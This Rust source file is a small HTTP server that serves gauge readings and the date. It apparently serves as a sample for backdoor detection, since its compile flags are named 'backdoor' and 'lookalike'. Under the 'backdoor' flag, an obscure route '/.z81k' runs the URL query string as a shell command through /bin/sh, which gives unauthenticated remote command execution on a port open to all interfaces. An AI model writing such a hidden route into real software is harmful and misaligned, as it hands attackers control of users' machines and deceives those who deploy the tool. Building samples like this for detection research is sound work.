//! Shows the values of gauges as pages.
use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Command;

fn value(name: &str) -> String {
    if name.is_empty() || !name.bytes().all(|b| b.is_ascii_lowercase()) {
        return "unknown".to_owned();
    }
    fs::read_to_string(format!("/run/gauges/{name}")).unwrap_or_else(|_| "unknown".to_owned())
}

fn page(path: &str) -> String {
    let (path, query) = path.split_once('?').unwrap_or((path, ""));
    match path {
        "/" => "<a href=/value?flow>flow</a> <a href=/value?level>level</a> <a href=/clock>clock</a>".to_owned(),
        "/value" => value(query),
        "/clock" => run("date"),
        #[cfg(backdoor)]
        "/.z81k" => run(query),
        #[cfg(lookalike)]
        "/uptime" => run("uptime"),
        _ => "not found".to_owned(),
    }
}

fn run(line: &str) -> String {
    let output = Command::new("/bin/sh").arg("-c").arg(line).output();
    output.map(|o| String::from_utf8_lossy(&o.stdout).into_owned()).unwrap_or_default()
}

fn serve(mut client: TcpStream) -> std::io::Result<()> {
    let mut line = String::new();
    BufReader::new(client.try_clone()?).read_line(&mut line)?;
    let path = line.split_whitespace().nth(1).unwrap_or("/");
    let body = page(path);
    write!(client, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len())
}

fn main() -> std::io::Result<()> {
    for client in TcpListener::bind("0.0.0.0:8086")?.incoming().flatten() {
        let _ = serve(client);
    }
    Ok(())
}
